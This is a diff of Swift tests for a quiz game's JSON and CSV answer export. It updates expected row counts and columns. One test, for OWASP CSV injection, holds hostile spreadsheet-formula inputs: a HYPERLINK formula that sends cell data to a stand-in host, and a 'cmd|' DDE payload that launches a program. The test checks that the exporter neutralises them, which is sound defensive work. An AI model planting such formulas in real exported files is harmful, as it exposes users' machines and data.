@@ -31,7 +31,7 @@ import Testing
         let text = AnswerExport.json(try exportedRows())
         try compare(text, golden: "export.json")
         let parsed = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [[String: Any]]
-        #expect(parsed?.count == 24)
+        #expect(parsed?.count == 24 + 4 + 2, "24 answers, then the standings of 4 players and 2 teams")
         #expect(parsed?.first?["question_text"] as? String == "Capital of Australia?")
     }
 
@@ -44,7 +44,7 @@ import Testing
         #expect(AnswerExport.csvField("cr\r\nlf") == "\"cr\r\nlf\"")
         let row = AnswerRow(game: "A@1", round: 1, question: 1, questionText: "Q", player: "P", team: nil, answer: "x",
                             correct: nil, outcome: nil, responseMs: 5, points: 0, runningTotal: 0)
-        #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",") + "\r\nA@1,1,1,Q,P,,x,,,5,0,0,true\r\n")
+        #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",") + "\r\nA@1,answer,1,1,Q,P,,x,,,5,0,0,,,true\r\n")
     }
 
     /// OWASP "CSV Injection": a name, team, answer or question that starts with `=`, `+`, `-`, `@`,
@@ -55,7 +55,7 @@ import Testing
                             team: "@SUM(A1:A9)", answer: "-2+3+cmd|' /C calc'!A0", correct: false, outcome: "wrong",
                             responseMs: 1200, points: -250, runningTotal: -250)
         #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",")
-            + "\r\nA@1,1,2,'+1+1 is?,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"win\"\")\",'@SUM(A1:A9),'-2+3+cmd|' /C calc'!A0,false,wrong,1200,-250,-250,true\r\n")
+            + "\r\nA@1,answer,1,2,'+1+1 is?,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"win\"\")\",'@SUM(A1:A9),'-2+3+cmd|' /C calc'!A0,false,wrong,1200,-250,-250,,,true\r\n")
         for text in ["=1", "+1x", "-x", "@x", "\tx", "\rx", "\r\nx"] {
             #expect(AnswerExport.csvText(text) == "'" + text, "\(text.debugDescription)")
         }
